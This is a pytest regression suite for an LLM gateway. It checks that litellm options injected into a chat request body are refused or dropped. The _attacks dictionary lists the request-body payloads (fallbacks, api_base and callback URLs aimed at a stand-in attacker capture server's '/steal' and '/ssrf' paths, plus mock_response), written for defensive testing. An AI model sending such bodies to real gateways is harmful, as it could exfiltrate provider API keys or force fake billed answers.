"""Attacks from a client with a valid key, against a real ``tierwise serve``.

The fake upstream plays the provider (OpenAI-compatible and Anthropic's API, through litellm);
a capture server plays the attacker's endpoint. Each test reproduces an attack that once worked.
"""

from __future__ import annotations

import json
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.capture import CaptureServer
from tests.conftest import fake_stats
from tests.serve import ServeProcess

PROVIDER_KEY = "sk-ant-policy-secret-0123456789"


def _policy(fake_url: str, extra: str = "") -> str:
    return f"""
    version: 1
    tiers:
      - name: mid
        deployments:
          - {{name: via-litellm, model: anthropic/claude-haiku-4-5, api_base: "{fake_url}",
              api_key_env: TIERWISE_TEST_PROVIDER_KEY, max_retries: 0,
              price: {{input_per_1m: 1, output_per_1m: 5}}}}
      - name: frontier
        deployments:
          - {{name: passthrough, model: openai/echo, api_base: "{fake_url}/v1",
              api_key_env: TIERWISE_TEST_PROVIDER_KEY, max_retries: 0,
              price: {{input_per_1m: 2.5, output_per_1m: 10}}}}
    routes:
      - {{name: cheap, tier: mid}}
    dispatch: {{fallback_up: false}}
    {extra}
    """


@pytest.fixture(scope="module")
def capture() -> Iterator[CaptureServer]:
    with CaptureServer() as server:
        yield server


def _serve(tmp: Path, fake: str, extra: str = "") -> Iterator[ServeProcess]:
    server = ServeProcess(tmp, _policy(fake, extra), {"TIERWISE_TEST_PROVIDER_KEY": PROVIDER_KEY})
    yield server
    server.stop()


@pytest.fixture(scope="module")
def strict(tmp_path_factory: pytest.TempPathFactory, fake_upstream: str) -> Iterator[ServeProcess]:
    yield from _serve(tmp_path_factory.mktemp("strict"), fake_upstream)


@pytest.fixture(scope="module")
def dropping(tmp_path_factory: pytest.TempPathFactory, fake_upstream: str) -> Iterator[ServeProcess]:
    yield from _serve(tmp_path_factory.mktemp("drop"), fake_upstream, "limits: {unknown_fields: drop}")


def _attacks(capture_url: str) -> dict[str, dict[str, Any]]:
    """litellm options a client once could set through the request body."""
    return {
        "fallbacks": {"fallbacks": [{"model": "openai/gpt-4o", "api_base": capture_url + "/steal"}]},
        "model_list": {"model_list": [{"model_name": "x", "litellm_params": {"model": "openai/gpt-4o"}}]},
        "callbacks": {"callbacks": ["langsmith"], "langsmith_base_url": capture_url + "/ssrf"},
        "mock_response": {"mock_response": "a fake answer, billed as real"},
        "timeout": {"timeout": 0.001},
        "num_retries": {"num_retries": 9},
        "api_base": {"api_base": capture_url + "/steal"},
        "extra_headers": {"extra_headers": {"x-evil": "1"}},
    }


def _chat(gw: ServeProcess, model: str, stream: bool, **extra: Any) -> httpx.Response:
    body = {"model": model, "messages": [{"role": "user", "content": "hello"}], "stream": stream, **extra}
    with httpx.stream("POST", gw.v1 + "/chat/completions", json=body, timeout=30) as r:
        r.read()
    return r


def _answer(r: httpx.Response, stream: bool) -> str:
    if not stream:
        return str(r.json()["choices"][0]["message"]["content"])
    text = ""
    for line in r.text.splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:]).get("choices") or []:
                text += (choice.get("delta") or {}).get("content") or ""
    return text


def _ledger(gw: ServeProcess) -> list[dict[str, Any]]:
    con = sqlite3.connect(gw.db)
    con.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in con.execute("SELECT * FROM requests ORDER BY id")]
    finally:
        con.close()


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
@pytest.mark.parametrize("deployment", ["via-litellm", "passthrough"])
@pytest.mark.parametrize(
    "attack",
    ["fallbacks", "model_list", "callbacks", "mock_response", "timeout", "num_retries", "api_base", "extra_headers"],
)
def test_litellm_options_in_the_body_are_refused(
    strict: ServeProcess, capture: CaptureServer, fake_upstream: str, deployment: str, stream: bool, attack: str
) -> None:
    fields = _attacks(capture.url)[attack]
    before = len(fake_stats(fake_upstream)["requests"])
    r = _chat(strict, deployment, stream, **fields)
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["code"] == "unsupported_parameter" and err["param"] in fields
    assert capture.requests == []  # nothing, and no key, went to the attacker's address
    assert len(fake_stats(fake_upstream)["requests"]) == before  # nor to the provider


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_dropped_options_never_reach_litellm(
    dropping: ServeProcess, capture: CaptureServer, fake_upstream: str, stream: bool
) -> None:
    """Under ``unknown_fields: drop`` the call goes through, exactly as the policy says."""
    fields: dict[str, Any] = {}
    for attack in _attacks(capture.url).values():
        fields.update(attack)
    r = _chat(dropping, "via-litellm", stream, **fields)
    assert r.status_code == 200, r.text
    assert _answer(r, stream) == "[fake echo] hello"  # the provider's answer, not ``mock_response``
    assert capture.requests == []
    call = fake_stats(fake_upstream)["last_request"]
    assert call["headers"]["x-api-key"] == PROVIDER_KEY  # the policy's key, to the policy's address
    assert call["body"]["model"] == "claude-haiku-4-5"
    assert not set(call["body"]) & {"fallbacks", "model_list", "callbacks", "mock_response", "metadata"}
    row = _wait_rows(dropping, r.headers["x-tierwise-request-id"])[0]
    assert row["upstream_model"] == "anthropic/claude-haiku-4-5"
    assert row["cost_usd"] > 0  # a real (fake-upstream) call, priced from its usage


def test_metadata_is_an_openai_field_but_not_a_litellm_option(
    strict: ServeProcess, capture: CaptureServer, fake_upstream: str
) -> None:
    """``metadata`` is allowlisted (OpenAI's API has it) yet litellm reads it as its own option:
    it is passed through on the OpenAI-compatible path and withheld from litellm."""
    meta = {"metadata": {"langsmith_base_url": capture.url}}
    assert _chat(strict, "passthrough", False, **meta).status_code == 200
    assert fake_stats(fake_upstream)["last_request"]["body"]["metadata"] == meta["metadata"]
    assert _chat(strict, "via-litellm", False, **meta).status_code == 200
    assert "metadata" not in fake_stats(fake_upstream)["last_request"]["body"]
    assert capture.requests == []


def _wait_rows(gw: ServeProcess, request_id: str) -> list[dict[str, Any]]:
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        rows = [r for r in _ledger(gw) if r["request_id"] == request_id]
        if rows:
            return rows
        time.sleep(0.05)
    raise AssertionError(f"no ledger row for {request_id}")
